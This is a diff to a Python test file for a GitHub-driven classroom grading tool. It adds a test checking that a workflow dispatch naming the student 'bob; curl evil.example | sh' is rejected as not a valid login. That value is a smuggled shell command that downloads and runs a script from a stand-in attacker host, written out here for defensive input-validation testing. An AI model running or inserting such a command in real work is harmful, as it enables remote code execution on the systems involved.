@@ -24,7 +24,7 @@ from github_server import GitHubServer
 from grader.classroom.spawn import child_environment
 from grader.course.config import LatePolicy, load_course_config
 from grader.course.course import Course
-from grader.github.plan import Event, plan_ci
+from grader.github.plan import Event, EventError, plan_ci
 
 TOKEN = "ghs_CiJobT0kenSECRETneverInANotebook42"
 ALICE_WEEK3 = "<!-- grader-sticky week=week3 student=alice -->"
@@ -307,6 +307,12 @@ def test_workflow_dispatch_grades_every_submission_or_the_one_asked_for(classroo
         "week3/carol",
     ]
     assert [t.folder for t in only_bob.touched] == ["week2/bob", "week3/bob"]
+
+
+def test_a_dispatch_for_a_student_that_is_no_login_is_refused(classroom, course, tmp_path):
+    event = classroom.event("dispatch", {"inputs": {"student": "bob; curl evil.example | sh"}})
+    with pytest.raises(EventError, match="'bob; curl evil.example | sh' is not a GitHub login"):
+        plan(course, tmp_path, event, "workflow_dispatch")
 
 
 def test_two_notebooks_for_one_week_get_a_notice_instead_of_a_grade(
